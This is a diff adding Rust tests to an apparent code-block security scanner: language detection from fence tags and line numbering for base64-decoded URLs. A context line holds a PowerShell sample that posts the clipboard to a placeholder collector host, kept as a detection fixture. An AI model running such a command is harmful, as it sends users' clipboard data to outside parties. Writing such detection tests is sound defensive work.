@@ -270,3 +270,37 @@ fn a_source_at_the_first_byte_of_a_line_is_a_source() {
     let indented = "```powershell\n  Get-Clipboard | Invoke-RestMethod -Uri https://collector.example/c -Method Post\n```\n";
     assert_severity(indented, "code.source-to-network", Critical);
 }
+
+// ---- the seed-30 sample
+
+#[test]
+fn each_info_word_names_its_language_and_others_name_none() {
+    let lang = |info: &str| CodeMap::of(&format!("```{info}\nx = 1\n```\n")).blocks[0].lang;
+    for (words, want) in [
+        (&["sh", "bash", "zsh", "console", "terminal"][..], Lang::Shell),
+        (&["python", "py", "pycon"][..], Lang::Python),
+        (&["js", "javascript", "ts", "typescript", "node", "jsx", "tsx", "mjs", "cjs"][..], Lang::JavaScript),
+        (&["powershell", "ps1", "pwsh"][..], Lang::PowerShell),
+        (&["rust", "yaml", "json"][..], Lang::Other),
+    ] {
+        for info in words {
+            assert_eq!(lang(info), want, "{info}");
+        }
+    }
+}
+
+#[test]
+fn a_hidden_url_on_the_first_line_is_found_there() {
+    // The first line's index is 0: the line of the finding is counted from 1.
+    let lines = |body: &str| -> Vec<usize> {
+        crate::scan::Scanner::standard()
+            .scan(body)
+            .findings
+            .iter()
+            .filter(|f| f.rule_id == "code.decoded-url")
+            .map(|f| f.line)
+            .collect()
+    };
+    assert_eq!(lines("echo aHR0cHM6Ly9leGFtcGxlLmNvbS9kb2Nz | base64 -d\n"), [1]);
+    assert_eq!(lines("# Notes\necho aHR0cHM6Ly9leGFtcGxlLmNvbS9kb2Nz | base64 -d\n"), [2]);
+}
